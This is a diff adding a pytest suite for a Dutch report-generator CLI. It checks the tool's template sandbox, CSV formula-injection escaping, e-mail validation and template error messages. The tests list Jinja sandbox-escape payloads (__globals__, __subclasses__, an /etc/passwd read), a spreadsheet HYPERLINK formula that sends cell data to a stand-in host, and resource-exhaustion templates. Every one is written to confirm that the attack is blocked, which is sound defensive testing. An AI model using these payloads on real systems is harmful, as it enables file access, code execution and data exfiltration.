@@ -1,0 +1,200 @@
+"""Safe and whole: the template sandbox, injections, and a located answer for every template
+problem. Each case was reproduced as an attacker or a careless user would do it; none may
+write a file, read one, run a formula in Excel, or end in the generic message."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import docx
+import pytest
+from click.testing import CliRunner
+
+from generator.cli import hoofd
+from generator.paden import standaard_sjablonen
+
+from .test_notitie import _sjabloon
+
+
+def bouw(*args):
+    return CliRunner().invoke(hoofd, ["bouw", *map(str, args)], catch_exceptions=False)
+
+
+def _toml_kopie(map_: Path, naam: str, vervang: tuple[str, str] | None = None, tekst: str | None = None) -> Path:
+    map_.mkdir(exist_ok=True)
+    inhoud = tekst if tekst is not None else (standaard_sjablonen() / naam).read_text(encoding="utf-8")
+    if vervang:
+        assert vervang[0] in inhoud
+        inhoud = inhoud.replace(*vervang)
+    (map_ / naam).write_text(inhoud, encoding="utf-8")
+    return map_
+
+
+# -- 1. the sandbox: templates see data only ------------------------------------------------
+ONTSNAPPINGEN = [
+    "{{ hittekaart.tpl.write_xml('/tmp/hitteplan-ontsnapt') }}",
+    "{{ hittekaart.tpl.save('/tmp/hitteplan-ontsnapt.docx') }}",
+    "{{ hittekaart['tpl'].get_file_crc('/etc/passwd') }}",
+    "{{ (hittekaart|attr('tpl')).docx.part.package }}",
+    "{{ wb.__class__.__mro__ }}",
+    "{{ wb|attr('__class__') }}",
+    "{{ wb['__class__'] }}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ tijdvak.__globals__ }}",
+    "{{ tijdvak.__code__ }}",
+    "{{ lipsum.__globals__['os'] }}",
+    "{{ cycler.__init__.__globals__ }}",
+    "{{ (wb.stakeholders|first).__reduce__() }}",
+    "{{ wb.plekken.velden.__class__ }}",
+    "{% set x = wb.stakeholders|list %}{{ x.append(1) }}",
+    "{{ notitie.datum.__class__ }}",
+]
+
+
+@pytest.mark.parametrize("alinea", ONTSNAPPINGEN)
+def test_sjabloon_kan_niet_uit_de_zandbak(voorbeeld, tmp_path, alinea):
+    """A template under --sjablonen can only read the workbook's data: no file written, read
+    or copied, by any route (dot, subscript, |attr), and a sentence naming the template."""
+    eigen = _sjabloon(tmp_path / "kwaad", "{%p if hittekaart %}", "{{ hittekaart }}", "{%p endif %}", alinea)
+    uit = tmp_path / "uit"
+    resultaat = bouw(voorbeeld, "-o", uit, "--sjablonen", eigen)
+    assert resultaat.exit_code == 1, resultaat.output
+    laatste = resultaat.output.strip().splitlines()[-1]
+    assert laatste.startswith("Sjabloon 'bestuurlijke-notitie.docx': ")
+    assert "onverwachts" not in resultaat.output and "Traceback" not in resultaat.output
+    assert not Path("/tmp/hitteplan-ontsnapt").exists() and not Path("/tmp/hitteplan-ontsnapt.docx").exists()
+    assert not uit.exists()
+
+
+def test_afbeelding_in_het_sjabloon_is_een_tekst_en_wordt_een_afbeelding(voorbeeld, tmp_path):
+    """A template gets a plain text for a picture, never an object; the picture lands where
+    the text stood, with its alt text."""
+    eigen = _sjabloon(tmp_path / "eigen", "Kaart:", "{{ hittekaart }}", "Soort: {{ hittekaart is string }}")
+    uit = tmp_path / "uit"
+    assert bouw(voorbeeld, "-o", uit, "--sjablonen", eigen).exit_code == 0
+    doc = docx.Document(uit / "bestuurlijke-notitie.docx")
+    assert [p.text for p in doc.paragraphs] == ["Kaart:", "", "Soort: True"]
+    assert doc.paragraphs[1]._p.xpath(".//pic:pic") and len(doc.inline_shapes) == 1
+    assert doc.inline_shapes[0]._inline.docPr.get("descr").startswith("Hittekaart van Heuvelmonde")
+
+
+def test_zandbak_geldt_ook_voor_teksten(voorbeeld, tmp_path):
+    eigen = _toml_kopie(tmp_path / "eigen", "presentatie.toml",
+                        ('titel = "Welkom: waarom we hier vandaag zijn"',
+                         'titel = "{{ wb.__class__.__init__.__globals__ }}"'))
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert resultaat.exit_code == 1
+    assert resultaat.output.strip().splitlines()[-1] == (
+        "Sjabloon 'presentatie.toml', tekst 'welkom.titel': een tag probeert iets wat in een sjabloon niet mag.")
+
+
+# -- 3. CSV formula injection and e-mail addresses ------------------------------------------
+def _als_tekst(wb):
+    """Cells that begin with '=' as text, as Excel keeps them after a leading apostrophe (openpyxl
+    would otherwise write them as formulas)."""
+    for rij in wb["Stakeholders"].iter_rows():
+        for cel in rij:
+            if isinstance(cel.value, str) and cel.value.startswith("="):
+                cel.data_type = "s"
+
+
+def test_csv_voert_geen_formules_uit(maak_werkboek, gegevens, tmp_path):
+    kwaad = '=HYPERLINK("http://kwaad.example/?"&A1;"klik")'
+    gegevens["Stakeholders"][-1]["Organisatie"] = kwaad  # no other sheet refers to it
+    gegevens["Stakeholders"][6]["Contactpersoon"] = "+31 kwaad"
+    gegevens["Stakeholders"][7]["Contactpersoon"] = "@SUM(1+1)"
+    gegevens["Stakeholders"][8]["Contactpersoon"] = "-2+3"
+    uit = tmp_path / "uit"
+    assert bouw(maak_werkboek(gegevens, wijzig=_als_tekst), "-o", uit).exit_code == 0
+    tekst = (uit / "uitnodigingen" / "uitnodigingen.csv").read_bytes().decode("utf-8-sig")
+    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
+    assert all(not veld.startswith(("=", "+", "-", "@", "\t", "\r")) for rij in rijen for veld in rij)
+    velden = {veld for rij in rijen for veld in rij}
+    assert f"'{kwaad}" in velden and "'+31 kwaad" in velden and "'@SUM(1+1)" in velden and "'-2+3" in velden
+
+
+@pytest.mark.parametrize("adres", ["=1+1@evil.nl", "+31@x.nl", "jan..jansen@heuvelmonde.nl", "jan@heuvelmonde",
+                                   "Jan <jan@heuvelmonde.nl>"])
+def test_e_mailadressen_echt_gecontroleerd(maak_werkboek, gegevens, adres):
+    gegevens["Stakeholders"][0]["E-mail"] = adres
+    uit = CliRunner().invoke(hoofd, ["controleer", str(maak_werkboek(gegevens, wijzig=_als_tekst))],
+                             catch_exceptions=False)
+    assert uit.exit_code == 1
+    assert (f"Fout: Blad 'Stakeholders', cel E2: '{adres}' is geen geldig e-mailadres; verwacht bijvoorbeeld "
+            "naam@gemeente.nl") in uit.output.splitlines()
+
+
+# -- 10. every template problem gets its own sentence ---------------------------------------
+SJABLOONFOUTEN = [
+    ("brieven.toml", ('onderwerp = "Uitnodiging:', 'ondewerp = "Uitnodiging:'),
+     "Sjabloon 'brieven.toml': de tekst 'onderwerp' ontbreekt."),
+    ("brieven.toml", ("dagen_vooraf = 21", 'dagen_vooraf = "drie weken"'),
+     "Sjabloon 'brieven.toml': 'dagen_vooraf' moet een getal zijn."),
+    ("presentatie.toml", ('titel = "Welkom: waarom we hier vandaag zijn"', "titel = 42"),
+     "Sjabloon 'presentatie.toml': 'welkom.titel' moet een tekst zijn."),
+    ("presentatie.toml", ('koppen = ["Tijd", "Onderdeel", "Werkvorm", "Wie"]', 'koppen = "Tijd"'),
+     "Sjabloon 'presentatie.toml': 'programma.koppen' moet een lijst met teksten zijn."),
+    ("afbeeldingen.toml", ("breedte_mm = 150", 'breedte_mm = "groot"'),
+     "Sjabloon 'afbeeldingen.toml': 'hittekaart.breedte_mm' moet een getal zijn."),
+    ("afbeeldingen.toml", ("breedte_mm = 150", "breedte_mm = 100000"),
+     "Sjabloon 'afbeeldingen.toml': 'hittekaart.breedte_mm' moet tussen 5 en 400 (millimeter) liggen."),
+    ("presentatie.toml", ('titel = "Programma"', 'titel = "{{ 1/0 }}"'),
+     "Sjabloon 'presentatie.toml', tekst 'programma.titel': een berekening deelt door nul."),
+    ("uitnodiging.txt", ("Met vriendelijke groet,", "{% include 'geheim.txt' %}"),
+     "Sjabloon 'uitnodiging.txt', de e-mailtekst: {% include %}, {% import %} en {% extends %} kunnen in een "
+     "sjabloon niet; zet de tekst er zelf in."),
+    ("voortgang.toml", ('naam = "na de startbijeenkomst"', 'naam = ["na de startbijeenkomst"]'),
+     "Sjabloon 'voortgang.toml': 'moment.na_startbijeenkomst.naam' moet een tekst zijn."),
+]
+
+
+@pytest.mark.parametrize(("naam", "vervang", "melding"), SJABLOONFOUTEN)
+def test_sjabloonfout_met_eigen_zin(voorbeeld, tmp_path, naam, vervang, melding):
+    eigen = _toml_kopie(tmp_path / "eigen", naam, vervang)
+    uit = tmp_path / "uit"
+    resultaat = bouw(voorbeeld, "-o", uit, "--sjablonen", eigen)
+    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (1, melding)
+    assert not uit.exists()
+
+
+def test_sjabloon_in_latin_1(voorbeeld, tmp_path):
+    eigen = tmp_path / "eigen"
+    eigen.mkdir()
+    tekst = (standaard_sjablonen() / "uitnodiging.txt").read_text(encoding="utf-8")
+    (eigen / "uitnodiging.txt").write_bytes(tekst.encode("latin-1", errors="replace"))
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
+        1, "Sjabloon 'uitnodiging.txt' is geen UTF-8-tekst; sla het op met de codering UTF-8 (in Kladblok: Opslaan als "
+           "> Codering: UTF-8).")
+
+
+def test_rekenfout_in_een_word_sjabloon(voorbeeld, tmp_path):
+    eigen = _sjabloon(tmp_path / "eigen", "Aantal: {{ 1 / 0 }}")
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
+        1, "Sjabloon 'bestuurlijke-notitie.docx': een berekening deelt door nul in de alinea 'Aantal: {{ 1 / 0 }}'.")
+
+
+# -- 11. templates without limits ------------------------------------------------------------
+def test_sjabloon_dat_niet_ophoudt(voorbeeld, tmp_path, monkeypatch):
+    """Nested range(90000) loops would run for many minutes: stopped at the time limit, with
+    a sentence naming the template."""
+    from generator import sjabloon
+
+    monkeypatch.setattr(sjabloon, "MAX_SECONDEN", 1)
+    eigen = _sjabloon(tmp_path / "eigen", "{% for i in range(90000) %}{% for j in range(90000) %}{% endfor %}"
+                                          "{% endfor %}klaar")
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
+        1, "Sjabloon 'bestuurlijke-notitie.docx': het invullen duurt langer dan 1 seconden; staat er een lus in die "
+           "niet ophoudt, of een heel grote {% for %}?")
+
+
+@pytest.mark.parametrize("alinea", ["{{ 'x' * 100000000 }}", "{{ 'x'.ljust(100000000) }}", "{{ 10 ** 100000000 }}"])
+def test_sjabloon_dat_te_veel_maakt(voorbeeld, tmp_path, alinea):
+    eigen = _sjabloon(tmp_path / "eigen", alinea)
+    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
+    assert resultaat.exit_code == 1
+    assert resultaat.output.strip().splitlines()[-1].startswith("Sjabloon 'bestuurlijke-notitie.docx': ")
